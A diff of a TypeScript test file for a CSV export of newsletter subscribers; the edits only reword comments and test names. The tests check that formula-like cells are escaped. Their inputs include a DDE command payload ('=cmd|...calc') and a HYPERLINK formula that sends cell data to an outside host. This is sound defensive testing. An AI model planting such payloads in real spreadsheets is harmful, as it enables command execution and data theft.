@@ -16,7 +16,7 @@ async function csvOf(...pages: (readonly SubscriberRow[])[]): Promise<string> {
 
 const csvOfOne = async (email: string) => (await csvOf([[email, AT]])).slice(HEAD.length);
 
-/** As a strict reader of RFC 4180 sees it. */
+/** Parses as a strict reader of RFC 4180 does. */
 function read(csv: string): string[][] {
   const { data, errors } = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' });
   expect(errors).toEqual([]);
@@ -24,7 +24,7 @@ function read(csv: string): string[][] {
 }
 
 describe('the list as CSV', () => {
-  it('begins with the mark and the columns, one line for each row, none behind the last', async () => {
+  it('begins with the byte order mark and the header, one line for each row, no line break at the end', async () => {
     const rows: SubscriberRow[] = [
       ['somchai.w+news@example.co.th', AT],
       ['reader_2@xn--72c1a1bt4awk9o.com', '2026-11-20T23:59:59.999Z'],
@@ -34,11 +34,11 @@ describe('the list as CSV', () => {
     );
   });
 
-  it('is its columns alone when nobody has subscribed', async () => {
+  it('is only the header when nobody has subscribed', async () => {
     for (const pages of [[], [[]]]) expect(await csvOf(...pages)).toBe(HEAD);
   });
 
-  it('is the same however the rows are parted into pages', async () => {
+  it('is the same for any division of the rows into pages', async () => {
     const rows = ['a@x.co', '"b"@x.co', 'ค@x.co', '=d@x.co', 'e@x.co'].map((email): SubscriberRow => [
       email,
       AT,
@@ -52,7 +52,7 @@ describe('the list as CSV', () => {
     }
   });
 
-  it('asks for a page when the one before has been taken', async () => {
+  it('reads a page when the previous one has been consumed', async () => {
     const asked: number[] = [];
     const portions = subscriberCsv(
       (async function* () {
@@ -118,14 +118,14 @@ describe('a cell', () => {
     "=cmd|'/c calc'!A1",
     '=HYPERLINK("http://x.co?"&A1,"x")',
     '\u001b[2J',
-  ])('that would be run, %j, becomes text', async (email) => {
+  ])('that would be run as a formula, %j, becomes text', async (email) => {
     const csv = await csvOf([[email, AT]]);
     expect(csv).toBe(`${HEAD}\r\n"'${email.replaceAll('"', '""')}",${AT}`);
     expect(read(csv)[1]).toEqual([`'${email}`, AT]);
   });
 });
 
-/** A number generator of our own, so that a failure can be repeated. */
+/** A seeded number generator, so that a failure can be reproduced. */
 function numbers(seed: number): (below: number) => number {
   let state = seed;
   return (below) => {
@@ -152,13 +152,13 @@ it('of 10,000 random addresses each is read back, and none begins as a formula d
       escaped += 1;
     }
     expect(at).toBe(AT);
-    // Of security E9, and not the pattern of the code.
+    // From security E9, not the pattern of the code.
     expect(email).not.toMatch(/^[\s\u00a0\ufeff\0]*[=+\-@\t\r\n\0＝＋－＠]/);
   });
   expect(escaped).toBeGreaterThan(1_000);
 });
 
-it('addresses as people have them are written as the library writes them', async () => {
+it('common addresses are written as the library writes them', async () => {
   const rows = ['a@b.co', 'a.b-c_d+e@x-y.co.th', '1@2.co', 'สมหญิง@x.co', 'o"x@y.co', 'a,b@c.co', ''].map(
     (email): SubscriberRow => [email, AT],
   );
